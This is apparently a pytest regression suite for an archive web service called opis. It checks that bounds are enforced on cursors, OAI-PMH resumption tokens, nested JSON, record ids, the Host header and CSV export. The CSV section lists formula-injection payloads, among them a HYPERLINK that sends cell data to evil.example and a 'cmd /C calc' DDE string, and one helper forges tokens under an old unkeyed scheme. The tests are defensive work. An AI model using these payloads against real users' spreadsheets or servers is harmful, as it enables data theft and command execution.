"""Every value from outside is checked where it comes in, with a bound and a clear
400 (or an OAI-PMH error): cursors, resumption tokens, page numbers, JSON bodies,
record ids, the Host header. Each test here is a defect the attack of issue 13 found,
and failed before its fix."""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import json
import os
import re
import resource
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from conftest import free_port
from crafted import ATTACK
from curation_helpers import bearer, fast_hashing, login, sample_record, seed  # noqa: F401
from opis.model import Record
from opis.model.record import Annotation
from opis.search.base import MAX_RESULT_WINDOW, SearchRequest
from opis.services.archive import Archive
from opis.services.bulk import export_archive, neutralized
from opis.services.oai import OaiConfig, token_signer
from opis.services.signing import SignedJSON
from opis.web.app import create_app
from opis.web.deps import CURSOR_MAX_LENGTH
from opis.web.oai import install_oai
from paths import DATA, ROOT

REFERENCE = DATA / "wcda_114165.txt"
SRC = str(ROOT / "src")
# The address space a server under attack may use: ample for opis (about 1 GB), far
# below the 34 GB the cursor bomb asked for.
MEMORY_LIMIT = 4 * 1024**3


def limited_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


# -- 1. the cursor bomb -------------------------------------------------------------------------

@pytest.fixture(scope="module")
def small_archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    db = tmp_path_factory.mktemp("bomb") / "opis.db"
    archive = Archive(str(db))
    archive.ingest([REFERENCE])
    archive.put([sample_record("r1"), sample_record("r2", "Второй отчёт о пленуме")])
    archive.close()
    yield db


def test_engine_never_sizes_top_k_by_the_offset(small_archive: Path) -> None:
    """The engine itself, asked for hits 2**31 on (no web bounds in the way), answers
    an empty page with the true total in a process limited to 4 GB; before, Tantivy
    tried to allocate 34 GB and aborted the process."""
    code = textwrap.dedent(f"""
        from opis.search.base import SearchRequest
        from opis.services.archive import Archive
        archive = Archive({str(small_archive)!r})
        for offset in (2**31, 2**62, 10**30):
            for q in ("", "plenum"):
                r = archive.search(SearchRequest(query=q, offset=offset, limit=20)).result
                assert r.hits == [] and r.total > 0, (offset, q, r.total)
        r = archive.search(SearchRequest(query="", offset=1, limit=2**40)).result
        assert len(r.hits) == 2, len(r.hits)
        print("ok")
    """)
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": SRC}, preexec_fn=limited_memory,
                          timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip() == "ok"


def test_both_engines_answer_any_window(archive: Archive) -> None:
    """Tantivy and PostgreSQL alike: an offset far past the end is an empty page with
    the true total (PostgreSQL refused a LIMIT/OFFSET past 2**63 with a 500)."""
    archive.put([sample_record(f"w{i}", f"Report {i} on the plenum") for i in range(3)])
    for offset in (3, 2**31, 2**62, 10**30):
        for q in ("", "plenum"):
            r = archive.search(SearchRequest(query=q, offset=offset, limit=20)).result
            assert r.hits == [] and r.total == 3, (offset, q)
    r = archive.search(SearchRequest(query="plenum", offset=1, limit=10**30)).result
    assert len(r.hits) == 2 and r.total == 3


@contextlib.contextmanager
def served_subprocess(db: Path) -> Iterator[str]:
    """``opis serve`` over ``db`` in a process limited to 4 GB of address space."""
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "opis", "serve", "--db", str(db), "--port", str(port)],
        env={**os.environ, "PYTHONPATH": SRC}, preexec_fn=limited_memory,
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                if httpx.get(url + "/healthz", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                assert proc.poll() is None, proc.stderr.read().decode()[-2000:]
                time.sleep(0.1)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def test_cursor_bomb_leaves_the_server_standing(small_archive: Path) -> None:
    """The attack itself: one anonymous request with a crafted cursor made `opis serve`
    exit; every crafted cursor is now a 400 naming the parameter, and the server answers
    after them all."""
    with served_subprocess(small_archive) as url:
        for path in ("/api/v1/search", "/api/v1/search?q=plenum", "/api/v1/records",
                     "/api/v1/entities"):
            for cursor in ATTACK:
                sep = "&" if "?" in path else "?"
                r = httpx.get(f"{url}{path}{sep}cursor={cursor}", timeout=30)
                assert r.status_code == 400, (path, cursor[:80], r.status_code, r.text[:200])
                assert "cursor: " in r.json()["error"], r.text[:200]
        assert httpx.get(url + "/healthz", timeout=5).json()["status"] == "ok"


# -- 2. keyed cursors -------------------------------------------------------------------------

NAMES = ["Kim Du-bon", "Пак Чан Ок", "김일성", "毛泽东", "Đặng Tiểu Bình", "“Choe” Yong-gon"]


@pytest.fixture(scope="module")
def app_archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[object, Archive]]:
    archive = Archive(str(tmp_path_factory.mktemp("boundary") / "opis.db"))
    archive.ingest([REFERENCE])
    archive.put([sample_record(f"r{i}", f"Report {i}: {name} at the plenum")
                 for i, name in enumerate(NAMES)])
    yield create_app(archive), archive
    archive.close()


@pytest.fixture(scope="module")
def client(app_archive: tuple[object, Archive]) -> Iterator[TestClient]:
    with TestClient(app_archive[0], raise_server_exceptions=False) as c:
        yield c


def signed(client: TestClient, purpose: str, key: object) -> str:
    """A cursor signed with the server's own key: what only the server can make."""
    secret = client.app.state.accounts.secret_key()
    return SignedJSON(secret, f"cursor:{purpose}", max_length=CURSOR_MAX_LENGTH).dumps(key)


def walk(client: TestClient, path: str, **params: object) -> list[str]:
    seen: list[str] = []
    cursor = None
    for _ in range(100):
        r = client.get(path, params={**params, **({"cursor": cursor} if cursor else {})})
        assert r.status_code == 200, r.text
        body = r.json()
        seen += [item["id"] for item in body.get("items", body.get("hits", []))]
        cursor = body["next_cursor"]
        if cursor is None:
            return seen
    raise AssertionError("the walk never ended")


def test_cursors_walk_every_list_once(client: TestClient) -> None:
    records = walk(client, "/api/v1/records", limit=2)
    assert len(records) == len(set(records)) == len(NAMES) + 1
    hits = walk(client, "/api/v1/search", q="plenum", limit=2)
    assert sorted(hits) == sorted(records)
    entities = walk(client, "/api/v1/entities", limit=1)
    assert len(entities) == len(set(entities)) > 0


def test_only_cursors_this_server_signed_for_this_list_are_taken(client: TestClient) -> None:
    first = client.get("/api/v1/records", params={"limit": 1}).json()["next_cursor"]
    assert client.get("/api/v1/records", params={"cursor": first}).status_code == 200
    # a records cursor is not a search cursor, nor an entities one
    for path in ("/api/v1/search", "/api/v1/entities"):
        r = client.get(path, params={"cursor": first})
        assert r.status_code == 400 and r.json()["error"].startswith("cursor: "), r.text
    # the same key signed with another secret, or altered by one character
    forged = SignedJSON("not the archive's key", "cursor:records",
                        max_length=CURSOR_MAX_LENGTH).dumps(["r1"])
    body, _, mac = first.partition(".")
    altered = body[:-1] + ("A" if body[-1] != "A" else "B") + "." + mac
    for bad in (forged, altered, first[:-2], first + "x", body):
        r = client.get("/api/v1/records", params={"cursor": bad})
        assert r.status_code == 400 and r.json()["error"].startswith("cursor: "), bad


def test_signed_cursors_outside_the_window_are_refused(client: TestClient) -> None:
    """Even a cursor signed with the server's key is checked: an offset past the
    pageable window, a negative one or a wrong type is a 400, not a search."""
    for key in ([MAX_RESULT_WINDOW], [2147483648], [10**30], [-1], [1.5], [True], ["5"],
                [1, 2], [], {"o": 1}, "x", None):
        r = client.get("/api/v1/search", params={"cursor": signed(client, "search", key)})
        assert r.status_code == 400 and r.json()["error"].startswith("cursor: "), (key, r.text)
    for key in ([1], ["x" * 201], [""], [["r1"]], [None]):
        r = client.get("/api/v1/records", params={"cursor": signed(client, "records", key)})
        assert r.status_code == 400 and r.json()["error"].startswith("cursor: "), (key, r.text)
    ok = client.get("/api/v1/search", params={"cursor": signed(client, "search", [1])})
    assert ok.status_code == 200


def test_pages_stop_at_the_window(client: TestClient) -> None:
    """Page numbers were bounded at 10,000 pages (200,000 hits deep); a search is now
    paged through its first MAX_RESULT_WINDOW hits, past that a 400 naming the page."""
    last = MAX_RESULT_WINDOW // 20
    for path in ("/search", "/search.json"):
        assert client.get(path, params={"q": "plenum", "page": last}).status_code == 200
        r = client.get(path, params={"q": "plenum", "page": last + 1})
        assert r.status_code == 400 and "page" in r.text
    r = client.get("/api/v1/search", params={"page": MAX_RESULT_WINDOW // 100 + 1,
                                              "limit": 100})
    assert r.status_code == 400 and r.json()["error"].startswith("page: "), r.text
    assert client.get("/api/v1/search", params={"page": MAX_RESULT_WINDOW // 100,
                                                 "limit": 100}).status_code == 200


# -- 3. OAI-PMH ---------------------------------------------------------------------------------

OAI = "{http://www.openarchives.org/OAI/2.0/}"
XML_ID = "{http://www.w3.org/XML/1998/namespace}id"


def handwritten_record(rid: str, name: str) -> Record:
    text = f"Report on {name}.\n[handwritten: To the archives]\n"
    start = text.index("To the archives")
    return Record(id=rid, title=f"Report on {name}", text=text, date="1956-12-28",
                  annotations=[Annotation("handwritten", start, start + 15, "To the archives")])


@pytest.fixture(scope="module")
def oai_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    archive = Archive(str(tmp_path_factory.mktemp("oai") / "opis.db"))
    archive.put([handwritten_record(rid, name) for rid, name in
                 [("300653", "Kim Il Sung"), ("frus1955-57v23p2d3", "Пак Чан Ок"),
                  ("mao-letter", "毛泽东"), ("hangul-note", "김일성 “Choe”")]])
    app = create_app(archive)
    install_oai(app, archive, config=OaiConfig(repository_id="opis.test", page_size=3))
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c
    archive.close()


def oai_error(response: httpx.Response) -> str | None:
    assert response.status_code == 200, (response.status_code, response.text[:300])
    assert response.headers["content-type"].startswith("text/xml"), response.text[:300]
    error = etree.fromstring(response.content).find(f"{OAI}error")
    return error.get("code") if error is not None else None


def test_a_page_of_handwritten_records_is_valid_xml(oai_client: TestClient) -> None:
    """Every record with a handwritten mark said xml:id="h1", so a ListRecords page of
    two such records was refused by any strict parser (lxml: "ID h1 already defined")."""
    r = oai_client.get("/oai", params={"verb": "ListRecords", "metadataPrefix": "tei"})
    root = etree.fromstring(r.content)  # raises on a repeated xml:id
    ids = [e.get(XML_ID) for e in root.iter() if e.get(XML_ID)]
    assert len(ids) == 3 and len(set(ids)) == 3, ids  # a page of three records
    assert {"rec.300653.h1", "rec.frus1955-57v23p2d3.h1"} <= set(ids)
    pointers = {e.get("hand") or e.get("target") for e in root.iter()
                if (e.get("hand") or e.get("target") or "").startswith("#")}
    assert {p[1:] for p in pointers} <= set(ids)


@pytest.mark.parametrize("bad", ["\x00", "\x01", "\x0b", "\x1f", "\ufffe", "a\x00b"])
def test_control_characters_in_oai_arguments_are_bad_arguments(oai_client: TestClient,
                                                               bad: str) -> None:
    """NUL or a control character in an argument gave an HTML 500 (lxml refuses them);
    now an OAI-PMH badArgument, by GET and by POST."""
    for params in ({"verb": "ListRecords", "metadataPrefix": "oai_dc", "set": bad},
                   {"verb": "GetRecord", "metadataPrefix": "tei", "identifier": bad},
                   {"verb": "ListIdentifiers", "resumptionToken": bad},
                   {"verb": "Identify", bad: "x"}):
        assert oai_error(oai_client.get("/oai", params=params)) == "badArgument", params
        assert oai_error(oai_client.post("/oai", data=params)) == "badArgument", params
    assert oai_error(oai_client.get("/oai", params={"verb": bad})) == "badVerb"


def test_arguments_that_decode_to_control_characters(db_url: str) -> None:
    """An identifier's %00 and a setSpec's ~00 decode to NUL, which PostgreSQL refuses
    in a query: a 500 there; now no such record and no such set."""
    archive = Archive(db_url)
    try:
        archive.put([handwritten_record("r1", "Kim")])
        app = create_app(archive)
        install_oai(app, archive, config=OaiConfig(repository_id="opis.test"))
        c = TestClient(app, raise_server_exceptions=False)
        assert oai_error(c.get("/oai", params={"verb": "GetRecord", "metadataPrefix": "tei",
                                               "identifier": "oai:opis.test:%00"})) \
            == "idDoesNotExist"
        assert oai_error(c.get("/oai", params={"verb": "ListRecords", "metadataPrefix": "tei",
                                               "set": "collection:~00"})) == "noRecordsMatch"
        assert oai_error(c.get("/oai", params={"verb": "ListRecords", "metadataPrefix": "tei",
                                               "until": "9999-12-31"})) is None
    finally:
        archive.close()


def first_token(client: TestClient) -> str:
    r = client.get("/oai", params={"verb": "ListIdentifiers", "metadataPrefix": "oai_dc"})
    return etree.fromstring(r.content).findtext(f"{OAI}ListIdentifiers/{OAI}resumptionToken")


def unkeyed_token(payload: dict) -> str:
    """A token as anyone who read the old source could make one: its checksum was an
    unkeyed SHA-256 with the salt in the code."""
    raw = json.dumps(payload, separators=(",", ":")).encode()
    check = hashlib.sha256(b"opis-oai-token-1:" + raw).hexdigest()[:16]
    return base64.urlsafe_b64encode(raw).decode().rstrip("=") + "." + check


def test_resumption_tokens_cannot_be_forged(oai_client: TestClient) -> None:
    good = first_token(oai_client)
    assert oai_error(oai_client.get("/oai", params={"verb": "ListIdentifiers",
                                                    "resumptionToken": good})) is None
    base = {"verb": "ListIdentifiers", "p": "oai_dc", "s": None, "f": None, "u": None,
            "t": "2020-01-01T00:00:00+00:00", "a": None, "c": 0}
    forged = [unkeyed_token({**base, "x": 4102444800}),          # expires in 2100
              unkeyed_token({**base, "x": 2**62}),               # gave a 500
              unkeyed_token({**base, "x": 4102444800, "c": 10**30, "a": ["x", 5]}),
              unkeyed_token({**base, "x": 4102444800, "t": "9999-99-99"}),
              token_signer("another archive's key").dumps({**base, "x": 4102444800}),
              good[:-1], good + "A", "x" * 5000, "%%%", "[" * 3000, "ü.ü", "."]
    for token in forged:
        r = oai_client.get("/oai", params={"verb": "ListIdentifiers", "resumptionToken": token})
        assert oai_error(r) in ("badResumptionToken", "badArgument"), token[:80]


def test_signed_token_is_still_checked_for_expiry(oai_client: TestClient) -> None:
    signer = token_signer(oai_client.app.state.accounts.secret_key())
    harvest = {"verb": "ListIdentifiers", "p": "oai_dc", "s": None, "f": None, "u": None,
               "t": "2020-01-01T00:00:00+00:00", "a": None, "c": 0, "x": 1}
    r = oai_client.get("/oai", params={"verb": "ListIdentifiers",
                                       "resumptionToken": signer.dumps(harvest)})
    assert oai_error(r) == "badResumptionToken" and "expired" in r.text


# -- 4. deep nesting through the API ------------------------------------------------------------

def nested(depth: int) -> str:
    return "[" * depth + '"Пак"' + "]" * depth


@pytest.fixture
def editing(tmp_path: Path) -> Iterator[tuple[TestClient, dict[str, str]]]:
    archive = Archive(str(tmp_path / "edit.db"))
    archive.put([sample_record("r1")])
    seeded = seed(archive)
    with TestClient(create_app(archive), raise_server_exceptions=False) as c:
        yield c, bearer(seeded.tokens["editor"])
    archive.close()


def test_deeply_nested_edits_are_refused_naming_the_field(
        editing: tuple[TestClient, dict[str, str]]) -> None:
    """A value nested 900 levels deep sent through an API edit gave a 500 (RecursionError
    while copying the record); now a 422 naming the field. Deeper than the JSON parser's
    own stack it is a 400, and a value of reasonable depth is saved."""
    c, auth = editing
    headers = {**auth, "content-type": "application/json"}

    def patch(extra: str) -> httpx.Response:
        body = '{"changes": {"extra": {"x": ' + extra + '}}, "reason": "nesting test"}'
        return c.patch("/api/v1/records/r1", content=body, headers=headers)

    for depth in (65, 900):
        r = patch(nested(depth))
        assert r.status_code == 422, (depth, r.status_code, r.text[:200])
        assert r.json()["fields"] == {"extra": "nested deeper than 64 levels"}
    r = patch(nested(5000))
    assert r.status_code == 400, r.text[:200]
    r = patch(nested(60))
    assert r.status_code == 200, r.text[:300]
    r = c.patch("/api/v1/records/r1", headers=headers, content=json.dumps(
        {"changes": {"extra": {"x": list(range(100_001))}}, "reason": "size test"}))
    assert r.status_code == 422 and "100,000 values" in r.json()["fields"]["extra"]


def test_deeply_nested_form_edits_are_field_errors(
        editing: tuple[TestClient, dict[str, str]]) -> None:
    c, _ = editing
    token = login(c, "eddie")
    for depth in (900, 5000):
        r = c.post("/document/r1/edit", data={"extra": '{"x": ' + nested(depth) + "}",
                                              "reason": "nesting test", "action": "save",
                                              "csrf_token": token})
        assert r.status_code == 422, (depth, r.status_code)
        assert "nested deeper than 64 levels" in r.text


# -- 5. record ids -------------------------------------------------------------------------------

def test_odd_record_ids_are_refused_at_ingest(tmp_path: Path) -> None:
    """Ids with ".", "/" or "<" were stored, and their pages were 404s; now ingest
    refuses them with a message naming the file and the id, and keeps the good ones."""
    good = tmp_path / "good.jsonl"
    good.write_text("\n".join(json.dumps({"record_id": rid, "title": f"Report {rid}",
                                          "text_body": "Пак Чан Ок и 김일성."})
                              for rid in ("114165", "frus1955-57v23p2d3", "Письмо-1", "김일성")),
                    encoding="utf-8")
    archive = Archive(str(tmp_path / "ids.db"))
    try:
        report = archive.ingest([good])
        assert report.ok and len(report.added) == 4, report.failed
        for rid, bad in (("a.b", "'.'"), ("a/b", "'/'"), ("a<b>", "'<'"), ("-x", "start")):
            path = tmp_path / f"bad-{len(rid)}-{ord(rid[1])}.jsonl"
            path.write_text(json.dumps({"record_id": rid, "title": "Odd"}), encoding="utf-8")
            report = archive.ingest([path])
            assert not report.ok and report.failed[0].path == str(path)
            message = report.failed[0].message
            assert repr(rid) in message and bad in message, message
            assert archive.get(rid) is None
    finally:
        archive.close()


LEGACY_IDS = ["a.b", "a/b", "a<b>", "a b?c#d%", "Пак/1.json", "“x”&y"]


@pytest.fixture
def legacy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    """An archive holding ids from before they were checked."""
    archive = Archive(str(tmp_path / "legacy.db"))
    with monkeypatch.context() as m:
        m.setattr("opis.services.ingest.id_problem", lambda _rid: None, raising=False)
        archive.put([sample_record(rid, f"Legacy record {i}") for i, rid in
                     enumerate(LEGACY_IDS)])
    seeded = seed(archive)
    with TestClient(create_app(archive), raise_server_exceptions=False) as c:
        c.headers.update(bearer(seeded.tokens["editor"]))
        yield c
    archive.close()


def test_legacy_odd_ids_are_reachable_through_their_links(legacy: TestClient) -> None:
    """Every link built from an id is percent-encoded ("/" too), and the routes find
    the record behind it: page, JSON twin, an export, the API and the history."""
    from urllib.parse import quote

    page = legacy.get("/search", params={"q": "plenum"}).text
    for i, rid in enumerate(LEGACY_IDS):
        url = "/document/" + quote(rid, safe="")
        assert f'href="{url}?find=plenum"' in page, rid  # opens at the search's words
        r = legacy.get(url)
        assert r.status_code == 200 and f"Legacy record {i}" in r.text, (rid, r.status_code)
        assert legacy.get(url + ".json").json()["id"] == rid
        assert legacy.get(url + ".ris").status_code == 200
        assert legacy.get("/api/v1/records/" + quote(rid, safe="")).json()["id"] == rid
        assert legacy.get(url + "/history.json").json()["id"] == rid
    hits = legacy.get("/api/v1/search", params={"q": "plenum", "limit": 50}).json()["hits"]
    assert {h["url"] for h in hits} == {"/document/" + quote(r, safe="") for r in LEGACY_IDS}


# -- 6. the Host header -----------------------------------------------------------------------------

EVIL = "evil.example"


def absolute_urls(c: TestClient, host: str | None = None) -> list[str]:
    """OAI-PMH's baseURL and a record identifier, and a document page's citation tags."""
    headers = {"Host": host} if host else {}
    identify = etree.fromstring(c.get("/oai", params={"verb": "Identify"},
                                      headers=headers).content)
    listed = etree.fromstring(c.get("/oai", params={"verb": "ListIdentifiers",
                                                    "metadataPrefix": "oai_dc"},
                                    headers=headers).content)
    page = c.get("/document/r1", headers=headers).text
    meta = re.findall(r'<meta name="(?:citation_public_url|DC.identifier)" content="([^"]+)"',
                      page)
    ld = json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>',
                              page, re.S).group(1))["url"]
    return [identify.findtext(f".//{OAI}baseURL"),
            listed.findtext(f".//{OAI}header/{OAI}identifier"), *meta, ld]


@pytest.fixture
def host_archive(tmp_path: Path) -> Iterator[Archive]:
    archive = Archive(str(tmp_path / "host.db"))
    archive.put([sample_record("r1")])
    yield archive
    archive.close()


def test_host_header_is_never_reflected(host_archive: Archive,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """The Host header was copied into OAI-PMH's baseURL, identifiers and the citation
    tags; without configuration they now name the address the server listens on."""
    monkeypatch.delenv("OPIS_BASE_URL", raising=False)
    monkeypatch.delenv("OPIS_ALLOWED_HOSTS", raising=False)
    c = TestClient(create_app(host_archive))
    urls = absolute_urls(c, EVIL)
    assert not any(EVIL in u for u in urls), urls
    assert urls == ["http://testserver/oai", "oai:testserver:r1",
                    "http://testserver/document/r1", "http://testserver/document/r1",
                    "http://testserver/document/r1"]


def test_absolute_urls_come_from_the_base_url(host_archive: Archive,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPIS_BASE_URL", "https://archive.example.org/opis/")
    c = TestClient(create_app(host_archive))
    base = "https://archive.example.org/opis"
    assert absolute_urls(c, EVIL) == [f"{base}/oai", "oai:archive.example.org:r1",
                                      f"{base}/document/r1", f"{base}/document/r1",
                                      f"{base}/document/r1"]
    for bad in ("archive.example.org", "ftp://x.org", "https://x.org/?a=1", "https://"):
        monkeypatch.setenv("OPIS_BASE_URL", bad)
        with pytest.raises(ValueError, match="OPIS_BASE_URL"):
            create_app(host_archive)


def test_allowed_hosts_refuse_other_names(host_archive: Archive,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPIS_BASE_URL", raising=False)
    monkeypatch.setenv("OPIS_ALLOWED_HOSTS", "archive.example.org, *.mirror.example.org")
    c = TestClient(create_app(host_archive))
    assert c.get("/healthz", headers={"Host": EVIL}).status_code == 400
    assert absolute_urls(c, "eu.mirror.example.org")[0] == "http://eu.mirror.example.org/oai"
    assert absolute_urls(c, "archive.example.org")[1] == "oai:archive.example.org:r1"


# -- 7. CSV formula injection -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Пак")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=김일성()"]


def test_csv_export_neutralizes_formulas(tmp_path: Path) -> None:
    """Cells starting with = + - @ (or tab, CR) were written unchanged, so a donor's
    title ran as a formula in the curator's spreadsheet; now each gets a "'" in front
    (shown as text, hidden by spreadsheets) and reads back as the value it was."""
    archive = Archive(str(tmp_path / "csv.db"))
    try:
        records = []
        for i, formula in enumerate(FORMULAS):
            r = sample_record(f"f{i}", formula)
            r.subjects = [formula]
            r.date = "-0044" if i == 0 else "1956-12-28"
            records.append(r)
        plain = sample_record("plain", "“Plain” Đặng Пак 毛泽东 - not a formula")
        records.append(plain)
        archive.put(records)
        out = tmp_path / "records.csv"
        export_archive(archive, "csv", out)
        with out.open(newline="", encoding="utf-8") as f:
            rows = {row["id"]: row for row in csv.DictReader(f)}
    finally:
        archive.close()
    for i, formula in enumerate(FORMULAS):
        row = rows[f"f{i}"]
        assert row["title"] == "'" + formula and row["subjects"] == "'" + formula
    assert rows["f0"]["date"] == "-0044"  # a number is not a formula
    assert rows["plain"]["title"] == plain.title
    assert rows["plain"]["date"] == "1956-12-28"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_neutralized_cell_starts_a_formula(cell: str) -> None:
    """Whatever the text, what is written either cannot start a formula or is a number."""
    out = neutralized(cell)
    assert out in (cell, "'" + cell)
    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert re.fullmatch(r"[+-]\d[\d,.]*", out), out


def test_serve_refuses_a_bad_base_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A mistyped OPIS_BASE_URL stops `opis serve` with the setting named, before any
    link is published with it."""
    from typer.testing import CliRunner

    from opis.cli import app

    monkeypatch.setenv("OPIS_BASE_URL", "archive.example.org")
    result = CliRunner().invoke(app, ["serve", "--db", str(tmp_path / "s.db")])
    assert result.exit_code == 2
    assert "OPIS_BASE_URL='archive.example.org' is not a site address" in result.output
